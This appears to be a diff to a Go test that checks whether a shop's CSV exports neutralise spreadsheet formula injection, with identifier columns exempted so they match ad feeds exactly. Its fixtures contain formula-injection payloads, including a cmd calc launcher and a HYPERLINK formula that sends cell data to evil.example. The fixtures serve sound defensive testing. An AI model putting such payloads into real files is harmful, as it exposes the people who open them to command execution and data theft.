@@ -4,6 +4,7 @@ import (
 	"encoding/csv"
 	"net/http"
 	"regexp"
+	"slices"
 	"strings"
 	"testing"
 	"time"
@@ -15,11 +16,15 @@ var formulaStart = regexp.MustCompile(`^[=+\-@\t\r]`)
 // plainNumberCell is a number, which a spreadsheet shows and never runs.
 var plainNumberCell = regexp.MustCompile(`^[+-]?([0-9]+\.?[0-9]*|\.[0-9]+)$`)
 
-// checkCells fails for every cell a spreadsheet would run as a formula.
-func checkCells(t *testing.T, file string, recs [][]string) {
+// checkCells fails for every cell a spreadsheet would run as a formula,
+// except in the columns named exact.
+func checkCells(t *testing.T, file string, recs [][]string, exact ...string) {
 	t.Helper()
 	for i, rec := range recs {
 		for j, cell := range rec {
+			if slices.Contains(exact, recs[0][j]) {
+				continue
+			}
 			if formulaStart.MatchString(cell) && !plainNumberCell.MatchString(cell) {
 				t.Errorf("%s row %d column %s: %q would run as a formula", file, i, recs[0][j], cell)
 			}
@@ -28,12 +33,18 @@ func checkCells(t *testing.T, file string, recs [][]string) {
 }
 
 // meta.csv and the member export neutralise cells that start a formula,
-// and keep numbers and the neutralised text readable.
+// and keep numbers and the neutralised text readable. meta.csv's
+// identifier columns are the exception: Meta matches the pixel's
+// content_ids (and remarket the offer token and the Google feed) against
+// the id exactly, so "'@evil" would be another product. The trade-off is
+// that a spreadsheet opening meta.csv runs such an id of the shop's own
+// catalog; free text (titles, descriptions, reasons) is still neutralised.
 func TestCSVFilesNeutraliseFormulas(t *testing.T) {
 	s := newServer(t, testConfig(t))
 	item := func(id, title string) product {
 		return product{ID: id, Title: title, Link: "https://shop.example/" + id, Image: "https://cdn.example/" + id + ".jpg",
-			Price: 10, Currency: "USD", Brand: "+cmd|' /C calc'!A0", Description: "-2+3+cmd|' /C calc'!A0"}
+			Price: 10, Currency: "USD", Brand: "+cmd|' /C calc'!A0", Description: "-2+3+cmd|' /C calc'!A0",
+			MPN: "-" + id, GroupID: "=" + id}
 	}
 	s.fx.products("shop",
 		item("@evil", `=HYPERLINK("http://evil.example/?"&A1,"Click")`),
@@ -55,9 +66,21 @@ func TestCSVFilesNeutraliseFormulas(t *testing.T) {
 	if err != nil || len(recs) != 3 {
 		t.Fatalf("meta.csv: %v %q", err, recs)
 	}
-	checkCells(t, "meta.csv", recs)
-	if recs[1][0] != "'@evil" || !strings.HasPrefix(recs[1][1], `'=HYPERLINK(`) || recs[2][0] != "-5" {
-		t.Errorf("meta.csv rows %q", recs[1:])
+	checkCells(t, "meta.csv", recs, "id", "mpn", "item_group_id")
+	col := map[string]int{}
+	for i, name := range recs[0] {
+		col[name] = i
+	}
+	evil, five := recs[1], recs[2]
+	if evil[col["id"]] != "@evil" || evil[col["mpn"]] != "-@evil" || evil[col["item_group_id"]] != "=@evil" || five[col["id"]] != "-5" {
+		t.Errorf("meta.csv changed identifiers: %q", recs[1:])
+	}
+	if !strings.HasPrefix(evil[col["title"]], `'=HYPERLINK(`) || evil[col["brand"]] != "'+cmd|' /C calc'!A0" || !strings.HasPrefix(evil[col["custom_label_2"]], "'=Goes with") {
+		t.Errorf("meta.csv left free text a formula: %q", recs[1:])
+	}
+	// The Google feed, the pixel and the offer token name the same id.
+	if body := s.get("/feeds/shop/cart/google.xml?token=" + feedToken).Body.String(); !strings.Contains(body, "<g:id>@evil</g:id>") {
+		t.Errorf("google.xml lacks <g:id>@evil</g:id>: %s", body)
 	}
 
 	s.fx.members("shop", "r1", "cart",
